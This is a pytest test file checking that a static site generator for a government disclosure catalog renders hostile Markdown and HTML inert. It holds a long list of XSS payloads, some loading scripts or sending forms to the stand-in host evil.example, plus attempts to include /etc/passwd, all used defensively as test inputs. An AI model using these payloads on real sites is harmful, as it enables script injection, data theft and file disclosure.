"""Safe rendering in depth: even past the validator, nothing runnable or hidden reaches a page.

Three layers are attacked separately: the body renderer called directly, a build of records that
carry only warnings (they pass the validator), and a build of a catalog whose titles and bodies
were never validated. Every HTML file of the builds is parsed: each has a same-origin-only
Content-Security-Policy, runs only the theme's own scripts, and holds no comment.
"""

from __future__ import annotations

import re
import shutil
import time
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import date
from pathlib import Path
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from generator.builder.build import build_site, publish_catalog
from generator.content.validate import check_content
from generator.core.records import Catalog
from generator.pages.markdown_safe import ALLOWED_TAGS, BodyRenderer, record_link_resolver
from generator.pages.plan import plan_pages
from tests.adversarial.hostile import SECONDS, Tree, nested_list
from tests.adversarial.html_scan import (
    DANGEROUS_URL,
    SAME_ORIGIN,
    URL_ATTRIBUTES,
    Page,
    browser_url,
    csp_directives,
    scan,
    script_hash,
    unsafe_in_body,
)
from tests.page_texts import render_pages

FIXTURE = Path(__file__).parent.parent / "fixtures" / "site"
FIXTURE_TODAY = date(2024, 7, 1)
SECRET = "机密备注"  # written inside HTML comments: must never reach a page
JS = "javascript:alert(document.domain)"

HOSTILE_BODIES = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<iframe src="https://evil.example"></iframe>',
    "<style>body{display:none}</style>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name="p"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    f'<a href="{JS}">点此</a>',
    '<a href="x" onmouseover="alert(1)">点此</a>',
    f"[点此]({JS})",
    "[点此](JaVaScRiPt:alert(1))",
    "[点此](java&#x09;script:alert(1))",
    "[点此](&#106;avascript:alert(1))",
    "[点此](javascript&colon;alert(1))",
    "[点此](   javascript:alert(1))",
    "[点此](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    f"[点此][r]\n\n[r]: {JS}",
    f"![图]({JS})",
    "[点此](vbscript:msgbox(1))",
    "[点此](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![图](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![](file:///etc/passwd)",
    "[密码](file:///etc/passwd)",
    "![跟踪](https://evil.example/pixel.png)",
    "[外站](//evil.example/)",
    '[链接](https://www.gov.cn){ onclick="alert(1)" }',
    "## 标题 {: onclick=alert(1) }",
    "段落{onclick=alert(1)}",
    '段落\n{: style="position:fixed;inset:0" }',
    '[链接](https://www.gov.cn "标题" onclick="alert(1)")',
    f"<!-- {SECRET} 13800138000 -->",
    f"<!--\n{SECRET}\n-->",
    '<div markdown="1">*强调*</div>',
    '<p markdown="block">**粗体**</p>',
    '--8<-- "/etc/passwd"',
    '--8<-- "../../../../catalog_schema/site.schema.json"',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
]


def render(body: str) -> str:
    resolve = record_link_resolver("edu/2025", "records/edu/2025", {"edu/2025/a": "records/a.md"})
    return BodyRenderer().render(body, resolve)


def as_record_body(html: str) -> Page:
    return scan(f'<div class="record-body">{html}</div>')


def assert_inert(html: str) -> None:
    page = as_record_body(html)
    assert unsafe_in_body(page) == []
    assert page.comments == []
    assert {e.tag for e in page.body_elements} <= ALLOWED_TAGS | {"div"}
    assert "root:" not in html and "$schema" not in html  # no file was included
    assert SECRET not in html or "&lt;!--" in html  # a comment is shown as text, never hidden


@pytest.mark.parametrize("body", HOSTILE_BODIES)
def test_renderer_output_is_inert(body: str) -> None:
    assert_inert(render(body))


@settings(max_examples=150, deadline=None)
@given(
    st.lists(st.one_of(st.sampled_from(HOSTILE_BODIES), st.text(max_size=20)), max_size=8),
    st.sampled_from(["", "\n", "\n\n", " ", "> ", "- "]),
)
def test_any_mix_of_hostile_fragments_is_inert(parts: list[str], glue: str) -> None:
    assert_inert(render(glue.join(parts)))


def test_headings_keep_unicode_ids() -> None:
    page = as_record_body(render("## 一、总则\n\n### （一）适用范围\n\n## 二、附则"))
    headings = [(e.tag, e.attrs.get("id")) for e in page.body_elements if e.tag[0] == "h"]
    assert headings == [("h3", "一总则"), ("h4", "一适用范围"), ("h3", "二附则")]


@pytest.mark.parametrize(
    "body",
    [nested_list(1000, 4), nested_list(1000, 2), "- " * 1000 + "x", "[" * 20000,
     "```a\n" * 20000, "## 标题\n" * 20000, "x\n\n" * 100_000],
    ids=["list-4", "list-2", "markers", "brackets", "fences", "headings", "paragraphs"],
)  # fmt: skip
def test_pathological_body_past_the_validator_is_bounded_and_inert(body: str) -> None:
    started = time.perf_counter()
    html = render(body)
    assert time.perf_counter() - started < SECONDS
    assert html.startswith("<pre>") and "<li>" not in html
    assert_inert(html)


# ---------------------------------------------------------------- whole sites


WARNING_ONLY_BODY = f"""## 一、说明 {{#custom-id}}

<b>粗体</b>与<span style>样式</span>按原样显示为文字。

<div markdown="1">*强调*</div>

<a href="{JS}">点此</a>

<img src="file:///etc/passwd" alt="x">

<IMG SRC="jav&#x0A;ascript:alert(1)">

<details open><summary>展开</summary>内容</details>

### （一）小节

--8<-- "/etc/passwd"
"""
WARNING_ONLY_RECORD = f"""---
id: 11339901MB1C0475XN/2024-00090
title: 关于对抗性页面测试的通知 & "引号" 'R&D'
category: policies
summary: 用于检验页面渲染的安全性。
written: 2024-06-03
published: 2024-06-05
---
{WARNING_ONLY_BODY}"""
WARNING_PAGE = "records/edu/hostile-warnings.html"
NAMED = "departments/office/policies/实施 细则（2024 年）.md"  # spaces, Chinese, brackets
NAMED_ATTACHMENT = "files/附件 1：申请表（样表）.pdf"
NAMED_RECORD = f"""---
id: 11339901MB1C026154/2024-00099
title: 青禾区政务公开工作办法实施细则
category: policies
summary: 细化政务公开工作办法的执行要求。
written: 2024-04-08
published: 2024-04-10
attachments:
  - {{file: '{NAMED_ATTACHMENT}', title: 申请表}}
---
见[申请表](<{NAMED_ATTACHMENT}>)、[同一附件](files/%E9%99%84%E4%BB%B6%201%EF%BC%9A%E7%94%B3%E8%AF%B7%E8%A1%A8%EF%BC%88%E6%A0%B7%E8%A1%A8%EF%BC%89.pdf)和[工作办法](measures-2024.md)。
"""


@dataclass(frozen=True)
class Site:
    root: Path
    problems: list[str]

    def pages(self) -> Iterator[tuple[str, Page]]:
        for path in sorted(self.root.rglob("*.html")):
            yield path.relative_to(self.root).as_posix(), scan(path.read_text(encoding="utf-8"))

    def page(self, relative: str) -> Page:
        return scan((self.root / relative).read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def warning_site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """The fixture site plus records that pass the validator while pushing it: a hostile body
    that only earns warnings, and file names with spaces, Chinese and brackets."""
    root = tmp_path_factory.mktemp("warnings")
    content = root / "content"
    shutil.copytree(FIXTURE, content)
    (content / "departments/edu/hostile-warnings.md").write_text(WARNING_ONLY_RECORD, "utf-8")
    (content / NAMED).write_text(NAMED_RECORD, encoding="utf-8")
    attachment = content / "departments/office/policies" / NAMED_ATTACHMENT
    shutil.copy(content / "departments/office/policies/files/measures-2024.pdf", attachment)
    tree = Tree(root)
    result = build_site(tree.settings(content_dir=root / "content", today=FIXTURE_TODAY))
    assert result.built, result.problems
    assert all(not p.is_error for p in result.problems)
    return Site(root / "site", [p.code for p in result.problems])


HOSTILE_TITLE = (
    '</title><meta http-equiv="refresh" content="0;url=https://evil.example">'
    "<style>body{display:none}</style><script>alert(1)</script>"
)


def unvalidated(catalog: Catalog) -> Catalog:
    """Hostile titles, summaries and bodies put straight into the catalog (no validator)."""
    chunks = [HOSTILE_BODIES[i::3] for i in range(3)]
    records = []
    for index, record in enumerate(catalog.records):
        if index < 3:
            record = replace(
                record,
                title=f"{HOSTILE_TITLE}{index}",
                summary=f'"><img src=x onerror=alert(1)>{SECRET}',
                keywords=('"><script>alert(1)</script>',),
                doc_number="<b onclick=alert(1)>文号</b>",
                body="\n\n".join(chunks[index]),
            )
        records.append(record)
    return replace(catalog, records=tuple(records))


@pytest.fixture(scope="module")
def unvalidated_site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    root = tmp_path_factory.mktemp("unvalidated")
    tree = Tree(root)
    settings_ = tree.settings(content_dir=FIXTURE, today=FIXTURE_TODAY)
    checked = check_content(settings_)
    assert checked.catalog is not None
    publish_catalog(unvalidated(checked.catalog), settings_)
    return Site(root / "site", [])


@pytest.fixture(scope="module", params=["warning", "unvalidated"])
def any_site(request: pytest.FixtureRequest) -> Site:
    return request.getfixturevalue(f"{request.param}_site")


def test_warning_record_is_published_with_its_warnings(warning_site: Site) -> None:
    assert "unsafe-html" in warning_site.problems
    page = warning_site.page(WARNING_PAGE)
    assert unsafe_in_body(page) == []
    text = (warning_site.root / WARNING_PAGE).read_text(encoding="utf-8")
    assert "&lt;b&gt;粗体&lt;/b&gt;" in text  # raw HTML is shown as text
    headings = {e.attrs.get("id") for e in page.body_elements if e.tag in ("h3", "h4")}
    assert {"一说明-custom-id", "一小节"} <= headings


def test_file_names_with_spaces_and_chinese_work(warning_site: Site) -> None:
    page_path = "records/office/policies/实施 细则（2024 年）.html"
    assert (warning_site.root / page_path).is_file()
    assert (warning_site.root / "files/office/policies" / NAMED_ATTACHMENT).is_file()
    linking = [page_path, "index.html", "categories/policies/index.html"]
    found = set()
    for name in linking:
        folder = (warning_site.root / name).parent
        for element in warning_site.page(name).elements:
            target = element.attrs.get("href") or element.attrs.get("src") or ""
            if target.startswith("#") or not re.search("实施|附件|measures-2024", unquote(target)):
                continue
            path = (folder / unquote(target.split("#")[0])).resolve()
            assert path.is_file() and path.is_relative_to(warning_site.root.resolve()), target
            found.add(path.name)
    assert {
        "实施 细则（2024 年）.html",
        "附件 1：申请表（样表）.pdf",
        "measures-2024.html",
    } <= found


def test_every_page_has_a_same_origin_csp(any_site: Site) -> None:
    pages = list(any_site.pages())
    assert len(pages) > 20
    for name, page in pages:
        [policy] = page.meta("Content-Security-Policy")
        directives = csp_directives(policy)
        assert directives.keys() >= SAME_ORIGIN.keys(), name
        for directive, sources in directives.items():
            allowed = SAME_ORIGIN.get(directive, {"'self'"})
            extra = {s for s in sources if not s.startswith("'sha256-")} - allowed
            assert not extra, (name, directive, extra)


def test_every_page_runs_only_the_theme_scripts(any_site: Site) -> None:
    for name, page in any_site.pages():
        [policy] = page.meta("Content-Security-Policy")
        allowed = set(csp_directives(policy)["script-src"])
        for body in page.inline_scripts:
            assert script_hash(body) in allowed, (name, body[:80])
        for element in page.elements:
            if element.tag == "script" and "src" in element.attrs:
                assert not element.attrs["src"].startswith(("http:", "https:", "//")), name


def test_no_page_carries_anything_runnable_from_content(any_site: Site) -> None:
    for name, page in any_site.pages():
        assert page.comments == [], name
        assert unsafe_in_body(page) == [], name
        for element in page.elements:
            assert not any(attr.startswith("on") for attr in element.attrs), (name, element)
            # the templates' own markdown="0" stays; a "1" would have let Markdown into raw HTML
            assert element.attrs.get("markdown", "0") == "0", (name, element)
            assert element.tag not in ("iframe", "object", "embed", "style", "base", "frame")
            if element.tag == "meta":
                assert element.attrs.get("http-equiv", "").lower() != "refresh", name
            for attribute in URL_ATTRIBUTES & element.attrs.keys():
                assert not DANGEROUS_URL.match(browser_url(element.attrs[attribute])), name


def test_no_file_of_the_site_holds_a_comment_from_content(any_site: Site) -> None:
    for path in any_site.root.rglob("*"):
        if path.suffix in (".html", ".json", ".xml", ".csv", ".js"):
            text = path.read_text(encoding="utf-8", errors="replace")
            assert f"<!-- {SECRET}" not in text and f"<!--\n{SECRET}" not in text, path


def test_hostile_titles_stay_text(unvalidated_site: Site) -> None:
    for name, page in unvalidated_site.pages():
        if name.startswith("records/") and "</title>" in page.title:
            assert page.title.startswith(HOSTILE_TITLE), name
            h1 = [e for e in page.elements if e.tag == "h1"]
            assert len(h1) == 1, name
            return
    pytest.fail("no record page carries the hostile title")


def test_feeds_and_sitemaps_stay_well_formed(unvalidated_site: Site) -> None:
    xml_files = list(unvalidated_site.root.rglob("*.xml"))
    assert xml_files
    for path in xml_files:
        ET.parse(path)  # a title that closed a tag would make this raise


def test_staging_of_an_unvalidated_pathological_body_is_bounded(tmp_path: Path) -> None:
    checked = check_content(Tree(tmp_path).settings(content_dir=FIXTURE, today=FIXTURE_TODAY))
    assert checked.catalog is not None
    first = replace(checked.catalog.records[0], body=nested_list(1000, 4))
    catalog = replace(checked.catalog, records=(first, *checked.catalog.records[1:]))
    started = time.perf_counter()
    pages = render_pages(catalog, plan_pages(catalog, ""))
    assert time.perf_counter() - started < SECONDS
    assert sum("<pre>" in text for text in pages.values()) == 1
